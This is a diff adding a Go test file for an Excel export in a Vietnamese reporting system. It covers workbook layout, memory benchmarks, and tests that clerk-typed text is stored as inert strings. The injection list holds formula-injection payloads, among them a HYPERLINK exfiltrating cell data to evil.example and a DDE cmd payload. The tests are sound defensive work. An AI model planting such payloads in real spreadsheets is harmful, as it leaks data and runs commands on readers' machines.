@@ -1,0 +1,457 @@
+package xlsx
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"runtime/metrics"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"baocao/reporting"
+)
+
+var (
+	hcmZone = time.FixedZone("ICT", 7*3600)
+	now     = time.Date(2025, time.June, 20, 9, 30, 0, 0, hcmZone)
+)
+
+// synthetic builds a consolidation of n communes under districts of 100,
+// with nFields fields: mostly counts, a sum of money, a percentage, a
+// choice, a date and a text per ten fields. Every 17th unit did not report.
+func synthetic(n, nFields int) *reporting.Consolidation {
+	var fields []reporting.Field
+	var sections []reporting.Section
+	for i := range nFields {
+		f := reporting.Field{Code: fmt.Sprintf("f%02d", i), Label: fmt.Sprintf("Chỉ tiêu số %d về thực hiện dân chủ ở cơ sở", i+1),
+			Type: reporting.TypeInt, Unit: "cuộc", Aggregate: reporting.AggSum}
+		switch i % 10 {
+		case 3:
+			f.Type, f.Unit = reporting.TypeDecimal, "đồng"
+		case 5:
+			f.Type, f.Unit, f.Aggregate = reporting.TypePercent, "%", reporting.AggAvg
+		case 7:
+			f.Type, f.Unit, f.Aggregate, f.Choices = reporting.TypeChoice, "", reporting.AggCount, []string{"Tốt", "Khá", "Trung bình", "Yếu"}
+		case 8:
+			f.Type, f.Unit, f.Aggregate = reporting.TypeDate, "", reporting.AggNone
+		case 9:
+			f.Type, f.Unit, f.Aggregate = reporting.TypeText, "", reporting.AggNone
+		}
+		if i%10 == 0 {
+			sections = append(sections, reporting.Section{Title: fmt.Sprintf("Phần %d", i/10+1)})
+		}
+		sections[len(sections)-1].Fields = append(sections[len(sections)-1].Fields, f)
+		fields = append(fields, f)
+	}
+	deadline := time.Date(2025, time.June, 16, 23, 59, 59, 0, hcmZone)
+	c := &reporting.Consolidation{
+		Form:     reporting.Form{Code: "BENCH", Title: "Báo cáo kết quả thực hiện dân chủ ở cơ sở", Sections: sections},
+		Fields:   fields,
+		Period:   reporting.Period{Key: "2025-H1", Label: "6 tháng đầu năm 2025", DataFrom: reporting.Day(2024, 12, 15), DataTo: reporting.Day(2025, 6, 14)},
+		Province: "Tỉnh Đồng Nai",
+		Units:    make([]reporting.UnitReport, n),
+	}
+	for i := range n {
+		u := &c.Units[i]
+		u.Code = fmt.Sprintf("%05d", 20000+i)
+		u.Name = fmt.Sprintf("Xã Thạnh Phú Đông %d", i+1)
+		u.Kind = reporting.KindCommunePC
+		u.ParentCode = fmt.Sprintf("%03d", 700+i/100)
+		u.ParentName = fmt.Sprintf("Huyện Định Quán %d", i/100+1)
+		u.Deadline = deadline
+		u.Status = reporting.StatusMissing
+		if i%17 == 0 {
+			continue
+		}
+		u.Status = reporting.StatusSubmitted
+		u.FirstSubmittedAt = deadline.Add(-time.Duration(i%48) * time.Hour)
+		u.LastSubmittedAt, u.Versions, u.CountedVersion = u.FirstSubmittedAt, 1, 1
+		u.Values = make([]reporting.FieldValue, nFields)
+		for fi, f := range fields {
+			v := &u.Values[fi]
+			switch f.Type {
+			case reporting.TypeInt:
+				v.Num = reporting.DecimalInt(int64((i*7 + fi*13) % 1000))
+			case reporting.TypeDecimal:
+				v.Num = reporting.Decimal(fmt.Sprintf("%d.%02d", (i*31+fi)%100000, i%100))
+			case reporting.TypePercent:
+				v.Num = reporting.DecimalInt(int64(50 + (i+fi)%51))
+			case reporting.TypeChoice:
+				v.Text = f.Choices[(i+fi)%len(f.Choices)]
+			case reporting.TypeDate:
+				v.Day = reporting.Day(2025, time.Month(1+i%6), 1+i%28)
+			case reporting.TypeText:
+				v.Text = "Khó khăn về kinh phí và nhân lực thực hiện dân chủ ở cơ sở."
+			}
+		}
+	}
+	reporting.SortUnits(c.Units)
+	c.ComputeGroups()
+	return c
+}
+
+func write(t testing.TB, c *reporting.Consolidation) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "tong-hop.xlsx")
+	out, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := Write(context.Background(), out, c, Options{Now: now, Location: hcmZone}); err != nil {
+		t.Fatal(err)
+	}
+	if err := out.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// injections are texts a clerk might type that a spreadsheet would run as
+// formulas if they were written as such.
+var injections = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
+	"+1+1",
+	"-2+3",
+	"@SUM(1,2)",
+	"\t=1+1",
+	"\r=1+1",
+	`=cmd|' /C calc'!A0`,
+}
+
+func injected() *reporting.Consolidation {
+	c := synthetic(len(injections)+2, 10)
+	text := c.FieldIndex("f09")
+	for i, s := range injections {
+		u := &c.Units[i+1] // unit 0 did not report
+		u.Values[text].Text = s
+	}
+	c.Units[1].Name = "=1+2" // names come from imports: just as inert
+	return c
+}
+
+func TestUserTextIsWrittenAsInertStrings(t *testing.T) {
+	t.Parallel()
+	f, err := excelize.OpenFile(write(t, injected()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.GetRows(sheetTexts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := 0
+	for r, row := range rows {
+		if len(row) < 5 || !slices.Contains(injections, row[4]) {
+			continue
+		}
+		found++
+		ref := cellName(5, r+1)
+		if formula, _ := f.GetCellFormula(sheetTexts, ref); formula != "" {
+			t.Errorf("%s holds formula %q", ref, formula)
+		}
+		if typ, _ := f.GetCellType(sheetTexts, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("%s %q has cell type %v, want a string", ref, row[4], typ)
+		}
+	}
+	if found != len(injections) {
+		t.Fatalf("found %d of %d injected texts in %s", found, len(injections), sheetTexts)
+	}
+	// The unit name too, in the summary.
+	for r, row := range mustRows(t, f, sheetSummary) {
+		if len(row) > 1 && row[1] == "=1+2" {
+			if typ, _ := f.GetCellType(sheetSummary, cellName(2, r+1)); typ != excelize.CellTypeInlineString {
+				t.Errorf("unit name =1+2 has cell type %v", typ)
+			}
+			return
+		}
+	}
+	t.Fatal("unit named =1+2 not in the summary")
+}
+
+func mustRows(t *testing.T, f *excelize.File, sheet string) [][]string {
+	t.Helper()
+	rows, err := f.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+// libreOffice runs soffice headless with a private profile, so parallel
+// tests do not fight over one; it skips when LibreOffice is missing, unless
+// CI is set.
+func libreOffice(t *testing.T, args ...string) {
+	t.Helper()
+	bin, err := exec.LookPath("libreoffice")
+	if err != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatal("LibreOffice is required in CI: apt-get install -y libreoffice-calc")
+		}
+		t.Skip("LibreOffice not installed (apt-get install -y libreoffice-calc)")
+	}
+	profile := "file://" + t.TempDir()
+	cmd := exec.Command(bin, append([]string{"-env:UserInstallation=" + profile, "--headless"}, args...)...)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("libreoffice %v: %v\n%s", args, err, out)
+	}
+}
+
+func TestLibreOfficeOpensTheWorkbookAndKeepsInjectionsAsText(t *testing.T) {
+	t.Parallel()
+	path := write(t, injected())
+	dir := t.TempDir()
+	libreOffice(t, "--convert-to", "pdf", "--outdir", dir, path)
+	if st, err := os.Stat(filepath.Join(dir, "tong-hop.pdf")); err != nil || st.Size() == 0 {
+		t.Fatalf("LibreOffice made no PDF: %v", err)
+	}
+	// Every sheet as CSV (sheet -1), as LibreOffice computed it: a formula
+	// would show its result, inert text itself.
+	libreOffice(t, "--convert-to", `csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1`, "--outdir", dir, path)
+	data, err := os.ReadFile(filepath.Join(dir, "tong-hop-"+sheetTexts+".csv"))
+	if err != nil {
+		entries, _ := os.ReadDir(dir)
+		t.Fatalf("no CSV of %s: %v (made %v)", sheetTexts, err, entries)
+	}
+	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range records {
+		if len(r) == 5 {
+			got = append(got, r[4])
+		}
+	}
+	for _, s := range injections {
+		if !slices.Contains(got, s) {
+			t.Errorf("LibreOffice shows %q as something else; column: %q", s, got)
+		}
+	}
+}
+
+func TestWorkbookLayout(t *testing.T) {
+	t.Parallel()
+	c := synthetic(250, 20)
+	f, err := excelize.OpenFile(write(t, c))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if got := f.GetSheetList(); !slices.Equal(got, []string{sheetSummary, sheetCompliance, sheetMissing, sheetCompare, sheetTexts}) {
+		t.Fatalf("sheets %q", got)
+	}
+	props, err := f.GetDocProps()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(props.Title, c.Form.Title) || props.Subject != c.Form.Title || props.Creator != "baocao" {
+		t.Errorf("document properties %+v", props)
+	}
+	panes, err := f.GetPanes(sheetSummary)
+	if err != nil || !panes.Freeze || panes.YSplit != summaryHeaderEnd || panes.XSplit != summaryFixedCols {
+		t.Errorf("summary panes %+v, %v", panes, err)
+	}
+	layout, err := f.GetPageLayout(sheetSummary)
+	if err != nil || *layout.Orientation != "landscape" || *layout.Size != 9 || *layout.FitToWidth != 1 {
+		t.Errorf("page layout %+v, %v", layout, err)
+	}
+	var titles string
+	for _, dn := range f.GetDefinedName() {
+		if dn.Name == "_xlnm.Print_Titles" && dn.Scope == sheetSummary {
+			titles = dn.RefersTo
+		}
+	}
+	if titles != "'Tổng hợp'!$4:$7" {
+		t.Errorf("print titles %q", titles)
+	}
+	checks := []struct {
+		cell, value, format string
+	}{
+		{"A4", txtColNo, ""},
+		{"D5", "Chỉ tiêu số 1 về thực hiện dân chủ ở cơ sở (cuộc)", ""},
+		{"I5", "Chỉ tiêu số 6 về thực hiện dân chủ ở cơ sở (%) — bình quân", ""},
+		{"K6", "Tốt", ""},
+		{"B8", "TỔNG CỘNG TOÀN TỈNH", ""},
+		{"D8", "", numFmts[fmtInt]},
+		{"G8", "", numFmts[fmtDec]},
+		{"I8", "", numFmts[fmtPct]},
+	}
+	for _, ch := range checks {
+		if ch.value != "" {
+			if v, _ := f.GetCellValue(sheetSummary, ch.cell); v != ch.value {
+				t.Errorf("%s = %q, want %q", ch.cell, v, ch.value)
+			}
+		}
+		if ch.format != "" {
+			id, _ := f.GetCellStyle(sheetSummary, ch.cell)
+			st, err := f.GetStyle(id)
+			if err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != ch.format {
+				t.Errorf("%s number format %v, want %s", ch.cell, st, ch.format)
+			}
+		}
+	}
+	// A missing unit: "not reported" and empty figures, never 0.
+	for r, row := range mustRows(t, f, sheetSummary) {
+		if len(row) > 2 && row[1] == c.Units[0].Name {
+			if row[2] != reporting.NotReported || slices.ContainsFunc(row[3:], func(s string) bool { return s != "" }) {
+				t.Errorf("row %d of a unit that did not report: %q", r+1, row)
+			}
+		}
+	}
+}
+
+// peakHeap samples the live heap while the benchmark runs.
+type peakHeap struct {
+	stop chan struct{}
+	done sync.WaitGroup
+	peak atomic.Uint64
+}
+
+func startPeakHeap() *peakHeap {
+	p := &peakHeap{stop: make(chan struct{})}
+	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
+	p.done.Add(1)
+	go func() {
+		defer p.done.Done()
+		tick := time.NewTicker(2 * time.Millisecond)
+		defer tick.Stop()
+		for {
+			metrics.Read(sample)
+			if v := sample[0].Value.Uint64(); v > p.peak.Load() {
+				p.peak.Store(v)
+			}
+			select {
+			case <-p.stop:
+				return
+			case <-tick.C:
+			}
+		}
+	}()
+	return p
+}
+
+// report stops sampling and reports peak live heap and heap obtained from
+// the OS, in MiB.
+func (p *peakHeap) report(b *testing.B) {
+	close(p.stop)
+	p.done.Wait()
+	var ms runtime.MemStats
+	runtime.ReadMemStats(&ms)
+	b.ReportMetric(float64(p.peak.Load())/(1<<20), "peak-heap-MiB")
+	b.ReportMetric(float64(ms.HeapSys)/(1<<20), "heap-sys-MiB")
+}
+
+const (
+	benchUnits  = 10_000
+	benchFields = 50
+)
+
+// BenchmarkWorkbook writes the consolidated workbook of 10,000 units × 50
+// fields; compare with BenchmarkBareStreamWriter in the same run.
+func BenchmarkWorkbook(b *testing.B) {
+	c := synthetic(benchUnits, benchFields)
+	runtime.GC()
+	b.ReportAllocs()
+	peak := startPeakHeap()
+	b.ResetTimer()
+	for b.Loop() {
+		if err := Write(context.Background(), discard{}, c, Options{Now: now, Location: hcmZone}); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.StopTimer()
+	peak.report(b)
+}
+
+// BenchmarkBareStreamWriter is the baseline: the very cells of the
+// consolidated workbook (read back from one, numbers as numbers) written
+// sheet by sheet with excelize's StreamWriter and nothing else: no styles,
+// widths, merges, panes, print set-up or properties.
+func BenchmarkBareStreamWriter(b *testing.B) {
+	sheets := sameCells(b, synthetic(benchUnits, benchFields))
+	runtime.GC()
+	b.ReportAllocs()
+	peak := startPeakHeap()
+	b.ResetTimer()
+	for b.Loop() {
+		f := excelize.NewFile()
+		for i, s := range sheets {
+			name := fmt.Sprintf("Sheet%d", i+1)
+			if i > 0 {
+				if _, err := f.NewSheet(name); err != nil {
+					b.Fatal(err)
+				}
+			}
+			sw, err := f.NewStreamWriter(name)
+			if err != nil {
+				b.Fatal(err)
+			}
+			for r, row := range s {
+				if err := sw.SetRow(cellName(1, r+1), row); err != nil {
+					b.Fatal(err)
+				}
+			}
+			if err := sw.Flush(); err != nil {
+				b.Fatal(err)
+			}
+		}
+		if err := f.Write(discard{}); err != nil {
+			b.Fatal(err)
+		}
+		f.Close() //nolint:errcheck
+	}
+	b.StopTimer()
+	peak.report(b)
+}
+
+// sameCells reads every sheet of c's workbook back as values: numbers as
+// float64, the rest as strings.
+func sameCells(b *testing.B, c *reporting.Consolidation) [][][]any {
+	var buf bytes.Buffer
+	if err := Write(context.Background(), &buf, c, Options{Now: now, Location: hcmZone}); err != nil {
+		b.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&buf)
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer f.Close()
+	var out [][][]any
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		if err != nil {
+			b.Fatal(err)
+		}
+		s := make([][]any, len(rows))
+		for r, row := range rows {
+			s[r] = make([]any, len(row))
+			for i, v := range row {
+				if x, err := strconv.ParseFloat(v, 64); err == nil {
+					s[r][i] = x
+				} else if v != "" {
+					s[r][i] = v
+				}
+			}
+		}
+		out = append(out, s)
+	}
+	return out
+}
+
+type discard struct{}
+
+func (discard) Write(p []byte) (int, error) { return len(p), nil }
